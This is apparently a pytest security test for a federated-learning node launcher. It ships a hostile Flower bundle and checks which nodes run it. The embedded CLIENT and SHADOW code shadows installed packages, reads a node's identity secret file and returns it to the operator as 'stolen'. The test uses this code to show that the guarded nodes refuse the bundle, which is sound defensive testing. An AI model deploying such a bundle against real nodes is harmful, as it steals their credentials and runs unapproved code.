"""An operator ships its own code: what a stock node does with it, and what a node of fedscore does.

One SuperLink, four organisations' nodes, two runs: first a bundle whose packages shadow the installed ones
and write canary files, then the honest one. `platform-2` runs a stock SuperNode, which is told its
configuration as Flower's documents have it; `collector-1` has allowed the hostile bundle; `platform-3` trusts
signed bundles alone.
"""

from __future__ import annotations

import datetime as dt
import hashlib
import json
import subprocess
import sys
import time
import warnings
from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from flwr.cli.build import build_fab_from_disk

from clients.config import load_node_config
from clients.policy import load_policy
from fedscore.contract import CommitteeTerms
from fedscore.messages.programs import program, run_command
from privacy.paillier.ceremony import unsafe_deal_from_primes
from server import BUNDLE
from simulations.loopback.certificates import write_tls
from simulations.loopback.federation import (
    CONNECTION,
    LoopbackTerms,
    contract_of,
    register,
    start_node,
    start_operator,
)
from simulations.loopback.parties import MeetingPoint, PartyFolder, agree, write_operator, write_parties
from simulations.loopback.processes import Processes, free_ports
from simulations.synthetic import make_consortium

pytestmark = pytest.mark.slow

TERMS = LoopbackTerms(
    platforms=3,
    collectors=1,
    committee=CommitteeTerms(members=4, threshold=3, colluding_members=1),
    absent=1,
)
GUARDED, STOCK, SIGNED_ONLY, ALLOWS_IT = "platform-1", "platform-2", "platform-3", "collector-1"
SECONDS = 150.0

SHADOW = """
from pathlib import Path
Path("canary-{name}").touch()
"""

CLIENT = """
import os
import re
from pathlib import Path

import fedscore
import privacy
from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp

Path("canary-clients").touch()
app = ClientApp()


@app.query("hello")
def hello(message, context):
    file = Path(context.node_config.get("config") or os.environ["FEDSCORE_NODE_CONFIG"])
    identity = re.search(r'identity = "(.*)"', file.read_text()).group(1)
    secret = (file.parent / identity).read_text()
    Path("canary-secret").write_text(secret)
    return Message(RecordDict({"stolen": ConfigRecord({"secret": secret})}), reply_to=message)
"""

SERVER = """
import json
import time
from pathlib import Path

from flwr.app import ConfigRecord, Message, RecordDict
from flwr.serverapp import ServerApp

app = ServerApp()


@app.main()
def main(grid, context):
    while len(list(grid.get_node_ids())) < 4:
        time.sleep(0.2)
    nothing = RecordDict({"c": ConfigRecord()})
    messages = [Message(nothing, node, "query.hello", ttl=100) for node in grid.get_node_ids()]
    waiting = set(grid.push_messages(messages))
    answers = {}
    while waiting:
        for reply in grid.pull_messages(waiting):
            waiting.discard(reply.metadata.reply_to_message_id)
            answers[str(reply.metadata.src_node_id)] = (
                {"error": [reply.error.code, reply.error.reason]}
                if reply.has_error()
                else {name: dict(record) for name, record in reply.content.items()}
            )
        time.sleep(0.2)
    Path(context.run_config["answers"]).write_text(json.dumps(answers, default=str))
"""


def write_hostile_bundle(folder: Path) -> Path:
    project = (BUNDLE / "pyproject.toml").read_text(encoding="utf-8")
    project = project.replace("server.app:app", "attack.server:app").replace(
        "[tool.flwr.app.config]", '[tool.flwr.app.config]\nanswers = ""'
    )
    files = {
        "pyproject.toml": project,
        "attack/__init__.py": "",
        "attack/server.py": SERVER,
        "clients/__init__.py": "",
        "clients/app.py": CLIENT,
        "fedscore/__init__.py": SHADOW.format(name="fedscore"),
        "privacy/__init__.py": SHADOW.format(name="privacy"),
    }
    for name, text in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text, encoding="utf-8")
    return folder


def start_stock_node(processes: Processes, party: PartyFolder) -> subprocess.Popen[bytes]:
    """A node without the launcher."""
    connection = load_node_config(party.config).connection
    assert connection is not None
    assert connection.listen is not None
    host, _, port = connection.listen.rpartition(":")
    command = [
        program("flower-supernode"),
        *("--superlink", connection.superlink, "--root-certificates", str(connection.authority)),
        *("--auth-supernode-private-key", str(party.private_key), "--host", host, "--port", port),
        *("--node-config", f'config="{party.config}"'),
    ]
    return processes.start(
        command, folder=party.folder, home=party.folder / "flower", log=party.folder / "supernode.log"
    )


@dataclass(frozen=True, slots=True, kw_only=True)
class Story:
    """What was there after all runs.

    Attributes:
        parties: Everybody's folder, by name.
        hostile: Hash of the hostile bundle.
        answers: What the hostile server app got from each node, in text.
        honest: What `run.json` says after the honest bundle's first sum.
        unregistered: What a person sees who starts a node that the operator does not know.
        expired: What a person sees whose operator's certificate has expired.
    """

    parties: Mapping[str, PartyFolder]
    hostile: str
    answers: Mapping[str, Any]
    honest: Mapping[str, Any]
    unregistered: str
    expired: str

    def log(self, name: str) -> str:
        return (self.parties[name].folder / "supernode.log").read_text(errors="replace")

    def canaries(self, name: str) -> set[str]:
        return {path.name for path in self.parties[name].folder.rglob("canary-*")}

    def answer(self, name: str) -> Any:  # noqa: ANN401 - whatever JSON holds
        """What the operator got from an organisation's node; its log has the node's number."""
        number = self.log(name).partition("SuperNode ID: ")[2].split()[0]
        return self.answers[number]


@pytest.fixture(scope="module")
def story(tmp_path_factory: pytest.TempPathFactory) -> Story:
    out = tmp_path_factory.mktemp("hostile")
    consortium = make_consortium(people=1500, platforms=TERMS.platforms, collectors=TERMS.collectors, seed=2)
    vectors = json.loads((Path(__file__).parents[1] / "vectors" / "paillier_safe_primes.json").read_text())
    p, q = (int(prime, 16) for prime in vectors["1024"])
    dealt = unsafe_deal_from_primes(p, q, members=4, threshold=3)
    agreed = agree(contract_of(consortium, 2048, TERMS), dealt=dealt)
    config = write_operator(out, agreed=agreed, answer_seconds=60.0)
    operator = config.parent
    authority, certificate, key = write_tls(operator)
    port, *ports = free_ports(5)
    meeting = MeetingPoint(superlink=f"localhost:{port}", authority=authority, ports=ports)
    written = write_parties(out, consortium=consortium, agreed=agreed, meeting=meeting)
    parties = {party.name: party for party in written}
    bundle = write_hostile_bundle(out / "bundle")
    with warnings.catch_warnings():
        # pathspec's, through flwr.
        warnings.simplefilter("ignore", DeprecationWarning)
        hostile = hashlib.sha256(build_fab_from_disk(bundle)).hexdigest()
    _allow(parties[ALLOWS_IT], hostile)
    _trust_signed_bundles_alone(parties[SIGNED_ONLY])
    with Processes() as processes:
        start_operator(processes, operator, port=port, authority=authority, certificate=certificate, key=key)
        unregistered = _started_by_hand(parties[GUARDED])
        for party in written:
            register(party, operator)
            if party.name == STOCK:
                start_stock_node(processes, party)
            else:
                start_node(processes, party)
        answers = _hostile_run(processes, bundle, operator)
        honest = _honest_run(processes, config)
    expired = _expired(parties[GUARDED], operator)
    return Story(
        parties=parties,
        hostile=hostile,
        answers=answers,
        honest=honest,
        unregistered=unregistered,
        expired=expired,
    )


def _allow(party: PartyFolder, bundle: str) -> None:
    policy = party.folder / "policy.toml"
    policy.write_text(policy.read_text().replace("bundles = [", f'bundles = ["{bundle}", '))
    assert bundle in load_policy(policy).bundles


def _trust_signed_bundles_alone(party: PartyFolder) -> None:
    """The second layer, with a key whose owner has signed nothing."""
    key = Ed25519PrivateKey.generate().public_key()
    public = key.public_bytes(Encoding.OpenSSH, PublicFormat.OpenSSH).decode()
    (party.folder / "trusted.yaml").write_text(f"fpk_reviewer: '{public}'\n")
    text = party.config.read_text()
    party.config.write_text(
        text.replace("connection = { ", 'connection = { trusted_entities = "trusted.yaml", ')
    )
    connection = load_node_config(party.config).connection
    assert connection is not None
    assert connection.trusted_entities is not None


def _started_by_hand(party: PartyFolder) -> str:
    """What a person sees who types `fedscore node start` and it ends."""
    log = party.folder / "typed.log"
    with log.open("wb") as output:
        process = subprocess.Popen(
            [program("fedscore"), "node", "start", str(party.config)],
            cwd=party.folder,
            stdin=subprocess.DEVNULL,
            stdout=output,
            stderr=subprocess.STDOUT,
        )
        assert process.wait(60) != 0
    return log.read_text(errors="replace")


def _hostile_run(processes: Processes, bundle: Path, operator: Path) -> dict[str, Any]:
    answers = operator / "answers.json"
    process = processes.start(
        [program("flwr"), "run", str(bundle), CONNECTION, "--run-config", f'answers="{answers}"'],
        folder=operator,
        home=operator / "flwr",
        log=operator / "hostile.log",
    )
    assert process.wait(SECONDS) == 0, (operator / "hostile.log").read_text()
    deadline = time.monotonic() + SECONDS
    while not answers.exists() and time.monotonic() < deadline:
        processes.require_running()
        time.sleep(0.5)
    found: dict[str, Any] = json.loads(answers.read_text())
    return found


def _honest_run(processes: Processes, config: Path) -> dict[str, Any]:
    """Runs until the first sum is opened."""
    process = processes.start(
        run_command(BUNDLE, config, connection=CONNECTION),
        folder=config.parent,
        home=config.parent / "flwr",
        log=config.parent / "run.log",
    )
    record = config.parent / "state" / "run.json"
    deadline = time.monotonic() + SECONDS
    while process.poll() is None and time.monotonic() < deadline:
        found: dict[str, Any] = json.loads(record.read_text()) if record.exists() else {}
        if found.get("rounds_opened", 0):
            break
        time.sleep(0.5)
    processes.kill(process)
    return found


def _expired(party: PartyFolder, operator: Path) -> str:
    """The same operator, with a certificate that nobody renewed."""
    authority, certificate, key = write_tls(operator, valid=-dt.timedelta(minutes=1))
    connection = load_node_config(party.config).connection
    assert connection is not None
    assert connection.authority == authority
    port = connection.superlink.rpartition(":")[2]
    server = """
import socket, ssl, sys
context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
context.load_cert_chain(sys.argv[2], sys.argv[3])
with socket.create_server(("127.0.0.1", int(sys.argv[1]))) as listener:
    print("ready", flush=True)
    while True:
        connection, _ = listener.accept()
        try:
            context.wrap_socket(connection, server_side=True)
        except OSError:
            pass
"""
    with subprocess.Popen(
        [sys.executable, "-c", server, port, str(certificate), str(key)], stdout=subprocess.PIPE
    ) as shown:
        assert shown.stdout is not None
        shown.stdout.readline()
        try:
            return _started_by_hand(party)
        finally:
            shown.kill()


def test_a_stock_node_runs_the_operators_code_and_loses_its_secret(story: Story) -> None:
    """The attack works where nothing stands in its way: so the other tests can fail."""
    assert story.canaries(STOCK) == {
        f"canary-{name}" for name in ("clients", "fedscore", "privacy", "secret")
    }
    secret = (story.parties[STOCK].folder / "identity.json").read_text()
    assert story.answer(STOCK)["stolen"]["secret"] == secret


def test_a_guarded_node_refuses_the_bundle_and_nothing_of_it_reaches_the_disk(story: Story) -> None:
    assert story.canaries(GUARDED) == set()
    assert not list(story.parties[GUARDED].folder.rglob("apps"))
    log = story.log(GUARDED)
    assert f"refused the operator's bundle {story.hostile}: it is not among the 1 that policy.toml" in log
    assert "add it to bundles in policy.toml only if its owner knows what it is" in log


def test_what_the_operator_learns_of_the_refusal_is_a_code(story: Story) -> None:
    text = json.dumps(story.answer(GUARDED))
    assert "policy-refused" in text
    assert str(story.parties[GUARDED].folder) not in text
    assert GUARDED not in text


def test_even_an_allowed_bundle_brings_no_code(story: Story) -> None:
    assert story.canaries(ALLOWS_IT) == set()
    assert not list(story.parties[ALLOWS_IT].folder.rglob("apps"))
    # The installed app, which the hostile one has shadowed elsewhere, found no ask in the message.
    assert "version-mismatch" in json.dumps(story.answer(ALLOWS_IT))


def test_a_node_that_trusts_signed_bundles_alone_refuses_unsigned_ones(story: Story) -> None:
    assert story.canaries(SIGNED_ONLY) == set()
    assert story.answer(SIGNED_ONLY)["error"][1] == "The FAB could not be verified."
    assert "App verification is not supported by the connected SuperLink" in story.log(SIGNED_ONLY)


def test_the_honest_bundle_is_answered(story: Story) -> None:
    assert story.honest["rounds_opened"] >= 1
    assert story.log(GUARDED).count("refused the operator's bundle") == 1


def test_a_node_that_the_operator_does_not_know_is_told_what_to_do(story: Story) -> None:
    assert "code 2004, the operator has not registered this node's key" in story.unregistered
    assert "[code: 2004] Failed to activate SuperNode" in story.unregistered


def test_an_expired_certificate_is_told_before_anything_is_sent(story: Story) -> None:
    assert "is refused (certificate has expired): ask the operator to renew it" in story.expired
    assert "Starting Flower SuperNode" not in story.expired
